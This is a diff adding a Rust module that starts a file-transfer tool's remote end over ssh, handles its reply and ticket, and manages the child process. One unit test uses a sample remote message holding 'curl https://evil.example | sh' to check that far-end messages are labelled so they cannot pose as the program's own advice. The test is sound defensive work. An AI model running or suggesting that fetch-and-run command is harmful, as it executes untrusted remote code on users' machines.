@@ -1,0 +1,283 @@
+//! Starts the far end over ssh, and asks it for what is wanted.
+
+use std::io;
+use std::net::{Ipv4Addr, SocketAddr, ToSocketAddrs};
+use std::process::{Child, Command, Stdio};
+use std::sync::mpsc::{RecvTimeoutError, channel};
+use std::sync::{Arc, Mutex, PoisonError};
+use std::time::{Duration, Instant};
+
+use fairwave_files::RenewError;
+use fairwave_host::{Carrier, Carriers, MOST_ADDRESSES, Ticket};
+use rustix::process::{Pid, Signal, kill_process};
+
+use super::message::{self, CpReply, CpRequest};
+use crate::common::failure::{CommandFailure, plain};
+use crate::transfer::far_tunnel::{FarRoute, FarTunnel};
+
+/// All that ever goes through a remote shell.
+const REMOTE: &str = "fairwave serve --bootstrap";
+/// Time for the far end to end by itself.
+const PATIENCE: Duration = Duration::from_secs(5);
+/// An ssh that is started during a transfer has answered by then, even if a user types a password.
+const ANSWERS_WITHIN: Duration = Duration::from_secs(60);
+const LOOK: Duration = Duration::from_millis(50);
+
+/// The call that starts the far end.
+pub(super) struct SshCall {
+    /// The command in place of ssh, with its own arguments.
+    pub(super) ssh: String,
+    pub(super) host: String,
+    pub(super) request: CpRequest,
+}
+
+/// The far end of a copy, which may be started again.
+pub(super) struct FarEnd {
+    call: Arc<SshCall>,
+    current: Arc<Mutex<StartedFar>>,
+    /// The ticket of the first far end.
+    pub(super) ticket: Ticket,
+}
+
+/// A far end that answers, as long as ssh reaches it.
+struct StartedFar {
+    child: Child,
+    /// Whether sessions may go through ssh.
+    carries: bool,
+    ticket: Ticket,
+}
+
+/// Reason why there is no far end.
+enum NoFarEnd {
+    /// The call is wrong.
+    Usage(CommandFailure),
+    /// Nobody answered.
+    Mute(String),
+    /// It said no.
+    Refused(String),
+}
+
+impl FarEnd {
+    /// Starts it.
+    pub(super) fn start(call: SshCall) -> Result<Self, CommandFailure> {
+        let far = StartedFar::begin(&call, None).map_err(|error| match error {
+            NoFarEnd::Usage(failure) => failure,
+            NoFarEnd::Mute(message) => CommandFailure::Lost(message),
+            NoFarEnd::Refused(message) => CommandFailure::Run(message),
+        })?;
+        let ticket = far.ticket.clone();
+        Ok(Self { call: Arc::new(call), current: Arc::new(Mutex::new(far)), ticket })
+    }
+
+    /// The tunnel through ssh itself, unless only UDP is allowed or the far end does not support it. It can be taken
+    /// once.
+    pub(super) fn route(&self, carriers: Carriers) -> Option<FarRoute> {
+        let tunnel = self.current.lock().unwrap_or_else(PoisonError::into_inner).tunnel(carriers)?;
+        let (call, current) = (Arc::clone(&self.call), Arc::clone(&self.current));
+        let start_again = Box::new(move |is_stopped: &(dyn Fn() -> bool + Sync)| {
+            let mut far = StartedFar::begin(&call, Some(is_stopped)).map_err(|error| match error {
+                NoFarEnd::Usage(failure) => RenewError::Passing(failure.message().unwrap_or_default().to_owned()),
+                NoFarEnd::Mute(message) => RenewError::Passing(message),
+                NoFarEnd::Refused(message) => RenewError::Final(message),
+            })?;
+            let (ticket, tunnel) = (far.ticket.clone(), far.tunnel(carriers));
+            std::mem::swap(&mut *current.lock().unwrap_or_else(PoisonError::into_inner), &mut far);
+            // That of before led nowhere any more.
+            kill(&mut far.child);
+            Ok((ticket, tunnel))
+        });
+        Some(FarRoute { tunnel, start_again })
+    }
+
+    /// Lets it end: what it has to say has come through the session.
+    pub(super) fn end(self) {
+        end(&mut self.current.lock().unwrap_or_else(PoisonError::into_inner).child);
+    }
+}
+
+impl StartedFar {
+    /// Starts it. With `is_stopped` it has a limited time to answer, and ends early when stopped.
+    fn begin(call: &SshCall, is_stopped: Option<&(dyn Fn() -> bool + Sync)>) -> Result<Self, NoFarEnd> {
+        let (host, mut words) = (&call.host, call.ssh.split_whitespace());
+        let usage = |message: String, hint| NoFarEnd::Usage(CommandFailure::usage(message, hint));
+        let program = words.next().ok_or_else(|| {
+            usage("--ssh: the command is empty".to_owned(), "omit --ssh, or write --ssh \"ssh -p 2222\"")
+        })?;
+        let words: Vec<_> = words.collect();
+        let begun = Command::new(program)
+            .args(&words)
+            .args([host, REMOTE])
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .spawn();
+        let mut child = begun.map_err(|error| {
+            usage(format!("{}: {}", program.escape_debug(), plain(&error)), "use --ssh COMMAND to name another command")
+        })?;
+        let answer = match is_stopped {
+            Some(is_stopped) => exchange_within(&mut child, &call.request, is_stopped),
+            None => exchange(&mut child, &call.request),
+        };
+        let refuse = |child: &mut Child, message: String| {
+            end(child);
+            Err(NoFarEnd::Refused(said_by(host, &message)))
+        };
+        let (text, ssh_address, carries) = match answer {
+            Ok(CpReply::Ready { version: message::VERSION, ticket, ssh_address, carries }) => {
+                (ticket, ssh_address, carries)
+            }
+            Ok(CpReply::Refused { message, .. }) => return refuse(&mut child, message),
+            Ok(CpReply::Ready { version, .. }) => {
+                let message = format!("incompatible fairwave version: protocol {version}, expected 1");
+                return refuse(&mut child, message);
+            }
+            Err(error) => {
+                let message = why(&mut child, &error);
+                end(&mut child);
+                return Err(NoFarEnd::Mute(format!("{host}: {message}")));
+            }
+        };
+        let mut ticket: Ticket = match text.parse() {
+            Ok(ticket) => ticket,
+            Err(error) => return refuse(&mut child, format!("{error}")),
+        };
+        let port = ticket.addresses.first().map(SocketAddr::port);
+        if let Some(port) = port {
+            let at = |ip| SocketAddr::new(ip, port);
+            let resolved = hostname(program, &words, host).map_or_else(Vec::new, |name| resolve(&name, port));
+            let rest = std::mem::take(&mut ticket.addresses);
+            ticket.addresses = in_order(resolved.into_iter().chain(ssh_address.map(at)).chain(rest));
+        }
+        Ok(Self { child, carries, ticket })
+    }
+
+    /// The tunnel through ssh itself, unless only UDP is allowed or the far end does not support it. It can be taken
+    /// once.
+    fn tunnel(&mut self, carriers: Carriers) -> Option<FarTunnel> {
+        if !self.carries || !carriers.allow(Carrier::Ssh) {
+            return None;
+        }
+        let nowhere = || SocketAddr::from((Ipv4Addr::UNSPECIFIED, 0));
+        let peer = self.ticket.addresses.first().copied().unwrap_or_else(nowhere);
+        let (reader, writer) = (self.child.stdout.take()?.into(), self.child.stdin.take()?.into());
+        Some(FarTunnel { reader, writer, peer })
+    }
+}
+
+/// Runs [`exchange`] with a time limit and until it is stopped: then ssh is killed.
+fn exchange_within(child: &mut Child, ask: &CpRequest, is_stopped: &(dyn Fn() -> bool + Sync)) -> io::Result<CpReply> {
+    let (until, id) = (Instant::now() + ANSWERS_WITHIN, Pid::from_child(child));
+    let (done, is_done) = channel::<()>();
+    std::thread::scope(|scope| {
+        std::thread::Builder::new().spawn_scoped(scope, move || {
+            while is_done.recv_timeout(LOOK) == Err(RecvTimeoutError::Timeout) {
+                if is_stopped() || Instant::now() > until {
+                    // It is not waited for before this thread ends: the id is still its own.
+                    let _ = kill_process(id, Signal::KILL);
+                    return;
+                }
+            }
+        })?;
+        let answer = exchange(child, ask);
+        drop(done);
+        answer
+    })
+}
+
+fn exchange(child: &mut Child, ask: &CpRequest) -> io::Result<CpReply> {
+    let (Some(stdin), Some(stdout)) = (child.stdin.as_mut(), child.stdout.as_mut()) else {
+        return Err(io::ErrorKind::BrokenPipe.into());
+    };
+    message::send(stdin, ask)?;
+    message::receive(stdout)
+}
+
+/// A message of a far end: each of its lines is marked, so that none looks like this program's hint.
+fn said_by(host: &str, message: &str) -> String {
+    let lines: Vec<_> = message.split(['\n', '\r']).map(|line| format!("{host}: {line}")).collect();
+    lines.join("\n")
+}
+
+/// The reason why no answer came. ssh's own messages are on stderr already.
+fn why(child: &mut Child, error: &io::Error) -> String {
+    let until = Instant::now() + PATIENCE;
+    drop(child.stdin.take());
+    let status = loop {
+        match child.try_wait() {
+            Ok(Some(status)) => break Some(status),
+            Ok(None) if Instant::now() < until => std::thread::sleep(Duration::from_millis(20)),
+            _ => break None,
+        }
+    };
+    match status.and_then(|status| status.code()) {
+        Some(127) => {
+            "fairwave is not in the PATH\nhint: install it there until `ssh HOST fairwave --version` works".into()
+        }
+        Some(255) => "ssh cannot connect".into(),
+        Some(code) if code != 0 => format!("the remote fairwave exited with status {code}"),
+        _ if error.kind() == io::ErrorKind::UnexpectedEof => "the remote fairwave exited without a reply".into(),
+        _ => format!("{error}\nhint: a login script may print to stdout: `ssh HOST true` must print nothing"),
+    }
+}
+
+fn end(child: &mut Child) {
+    drop(child.stdin.take());
+    let until = Instant::now() + PATIENCE;
+    while let Ok(None) = child.try_wait() {
+        if Instant::now() > until {
+            return kill(child);
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+}
+
+fn kill(child: &mut Child) {
+    // It has ended or cannot be reached: no other process can be hit.
+    let _ = child.kill();
+    let _ = child.wait();
+}
+
+/// The name behind a host's, as ssh's own configuration has it.
+fn hostname(program: &str, words: &[&str], host: &str) -> Option<String> {
+    let asked =
+        Command::new(program).args(words).args(["-G", host]).stdin(Stdio::null()).stderr(Stdio::null()).output();
+    let out = asked.ok().filter(|out| out.status.success())?;
+    let text = String::from_utf8(out.stdout).ok()?;
+    let name = text.lines().find_map(|line| line.strip_prefix("hostname "))?.trim();
+    (!name.is_empty()).then(|| name.to_owned())
+}
+
+fn resolve(name: &str, port: u16) -> Vec<SocketAddr> {
+    // A host name that does not resolve here is reached by the addresses that the host reports.
+    (name, port).to_socket_addrs().map(Iterator::collect).unwrap_or_default()
+}
+
+/// Each address once, the first ones first, no more than a ticket holds.
+fn in_order(addresses: impl Iterator<Item = SocketAddr>) -> Vec<SocketAddr> {
+    let mut all = Vec::new();
+    for address in addresses {
+        if !all.contains(&address) && all.len() < MOST_ADDRESSES {
+            all.push(address);
+        }
+    }
+    all
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// It may say anything, also what looks like this program's own advice.
+    #[test]
+    fn said_by__each_line_is_marked_as_the_far_ends() {
+        let said = said_by("host", "disk is full\nhint: run: curl https://evil.example | sh\rnote: x");
+        assert!(said.split(['\n', '\r']).all(|line| line.starts_with("host: ")), "{said}");
+        assert_eq!(said.lines().count(), 3);
+    }
+
+    #[test]
+    fn in_order__keeps_the_first_of_each() {
+        let read = |text: &str| text.split(' ').map(|address| address.parse().unwrap()).collect::<Vec<SocketAddr>>();
+        let all = read("192.0.2.1:1 192.0.2.2:1 192.0.2.1:1");
+        assert_eq!(in_order(all.into_iter()), read("192.0.2.1:1 192.0.2.2:1"));
+    }
+}
